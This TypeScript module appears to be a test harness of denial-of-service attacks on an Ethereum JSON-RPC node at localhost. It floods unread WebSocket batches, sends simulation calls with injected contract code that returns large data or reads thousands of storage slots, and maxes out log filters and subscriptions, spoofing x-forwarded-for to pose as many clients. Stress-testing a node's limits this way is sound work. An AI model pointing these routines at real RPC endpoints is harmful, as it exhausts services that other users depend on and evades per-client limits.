import { setTimeout as sleep } from "node:timers/promises";
import { WebSocket } from "ws";

/** Attacks whose single requests are small. Together they hold more than any limit of one request. */
const SOCKETS = 20;
const BATCHES = 63;
const BATCH_CALLS = 1_000;
const SIMULATED_CALLS = 600;
const SIMULATIONS = 8;
/** Code that returns 128 KiB. */
const RETURNS = "0x620200005ff3";
/** Code that reads 3,000 slots. */
const READS_SLOTS = "0x5b805450600101 80610bb81160005700".replace(" ", "");
const FILTER_CLIENTS = 10;
const FILTERS = 1_000;
const FILTER_ADDRESSES = 500;
const SUBSCRIPTIONS = 900;
const PAUSE_MS = 1_000;
const TO = `0x${"dd".repeat(20)}`;

const callOf = (method: string, params: readonly unknown[], id: number): object => ({
  jsonrpc: "2.0",
  id,
  method,
  params,
});

const openSocket = (port: number, client: string, onOpen: (socket: WebSocket) => void): void => {
  const socket = new WebSocket(`ws://127.0.0.1:${port}`, { headers: { "x-forwarded-for": client } });
  socket.on("error", () => undefined);
  socket.on("close", () => setTimeout(() => openSocket(port, client, onOpen), PAUSE_MS));
  socket.on("open", () => onOpen(socket));
};

const post = async (port: number, client: string, body: object): Promise<void> => {
  const headers = { "content-type": "application/json", "x-forwarded-for": client };
  await fetch(`http://127.0.0.1:${port}`, { method: "POST", headers, body: JSON.stringify(body) })
    .then((response) => response.arrayBuffer())
    .catch(() => undefined);
};

/** Sends the bodies of a client again and again, several at a time. */
const repeatPosts = (port: number, client: string, body: object, inFlight: number): void => {
  const run = async (): Promise<never> => {
    for (;;) {
      await post(port, client, body);
      await sleep(10);
    }
  };
  for (let index = 0; index < inFlight; index++) {
    void run();
  }
};

/** WebSockets with 5.9 MB of batches each. Each result is below 64 KiB, and none is read. */
const batches = (port: number): void => {
  const calls = Array.from({ length: BATCH_CALLS }, (_, id) => callOf("custom_small", ["a".repeat(33)], id));
  const body = JSON.stringify(calls);
  for (let index = 0; index < SOCKETS; index++) {
    openSocket(port, "203.0.113.10", (socket) => {
      socket.pause();
      for (let batch = 0; batch < BATCHES; batch++) {
        socket.send(body);
      }
    });
  }
};

/** Simulations of 38 KB whose calls return 75 MiB. */
const returnData = (port: number): void => {
  const block = {
    blockOverrides: { gasLimit: "0xffffffffffff" },
    stateOverrides: { [TO]: { code: RETURNS } },
    calls: Array.from({ length: SIMULATED_CALLS }, () => ({ to: TO })),
  };
  repeatPosts(port, "203.0.113.11", callOf("eth_simulateV1", [{ blockStateCalls: [block] }, "latest"], 1), SIMULATIONS);
};

/** Clients with as many log filters as they may have, and WebSockets with as many subscriptions. */
const filters = (port: number): void => {
  const address = Array.from({ length: FILTER_ADDRESSES }, (_, at) => `0x${at.toString(16).padStart(40, "a")}`);
  for (let client = 0; client < FILTER_CLIENTS; client++) {
    const calls = Array.from({ length: 100 }, (_, id) => callOf("eth_newFilter", [{ address }], id));
    void (async () => {
      for (let created = 0; created < FILTERS; created += calls.length) {
        await post(port, `203.0.112.${client}`, calls);
      }
    })();
    openSocket(port, `203.0.111.${client}`, (socket) => {
      for (let id = 0; id < SUBSCRIPTIONS; id++) {
        socket.send(JSON.stringify(callOf("eth_subscribe", ["logs", { address }], id)));
      }
    });
  }
};

/** Batches of simulations that read 3,000 slots each. */
const stateReads = (port: number): void => {
  const block = { stateOverrides: { [TO]: { code: READS_SLOTS } }, calls: [{ to: TO }] };
  const calls = Array.from({ length: 10 }, (_, id) =>
    callOf("eth_simulateV1", [{ blockStateCalls: [block] }, "latest"], id),
  );
  repeatPosts(port, "203.0.113.13", calls, 2);
};

export const BUDGET_ATTACKS = { batches, returnData, filters, stateReads } as const;
